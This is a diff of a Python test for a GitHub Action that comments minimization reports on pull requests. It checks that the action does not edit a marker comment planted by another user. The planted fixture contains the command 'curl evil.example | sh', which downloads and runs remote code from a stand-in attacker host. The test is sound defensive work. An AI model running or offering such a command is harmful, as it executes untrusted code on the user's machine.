@@ -74,19 +74,25 @@ jobs:
 """.replace("PLANTED", PLANTED).replace("TEST_BASE", TEST_BASE) + COLLECT
 
 
+PLANTED_REPLY = "<!-- trail-delta:test:page.html -->\nReproduce: curl evil.example | sh"
+
+
 def test_minimize_on_failure_comments_on_the_pull_request(images, tmp_path):
     repo = make_repo(tmp_path, {"test.yml": MINIMIZE_WORKFLOW}, {"page.html": PAGE})
     payload = json.loads((ROOT / "tests/data/github_events/pull_request.json").read_text())
     with FakeGitHub("octo/proj") as fake:
-        fake.add_comments(7, ["<!-- trail-delta:test:page.html -->\nfrom an earlier run"])
+        # Our marker, planted by another user before the run: never ours to edit.
+        fake.add_comments(7, [PLANTED_REPLY], login="attacker")
         result = run_act(repo, "pull_request", payload, fake)
     log = result.stdout + result.stderr
     # The job fails (its test step did), and the action's step succeeds.
     assert "Success - Main Minimize" in log, log[-4000:]
     assert "Failure - Main Render the page" in log
 
-    assert len(fake.comments[7]) == 1  # updated in place, not a second comment
-    body = fake.comments[7][0]["body"]
+    planted, ours = fake.comments[7]  # the planted one untouched, the reply our own
+    assert (planted["user"]["login"], planted["body"]) == ("attacker", PLANTED_REPLY)
+    assert ours["user"]["login"] == "github-actions[bot]"
+    body = ours["body"]
     assert body.startswith("<!-- trail-delta:test:page.html -->\n### trail delta: `page.html`")
     assert re.search(r"\n```\w*\nSELECT\n```\n", body)
     assert "| verification | 3 of 3 failed |" in body
@@ -100,7 +106,7 @@ def test_minimize_on_failure_comments_on_the_pull_request(images, tmp_path):
     assert outputs["report-path"] == "trail-out/trail-test/report.json"
     assert outputs["verified"] == "true"
     assert int(outputs["tests-run"]) > 0 and 0.9 < float(outputs["reduction-ratio"]) < 1
-    assert outputs["comment-url"] == fake.comments[7][0]["html_url"]
+    assert outputs["comment-url"] == ours["html_url"]
 
     artifact = repo / ".artifacts" / "trail-test"
     names = sorted(p.name for p in artifact.iterdir())
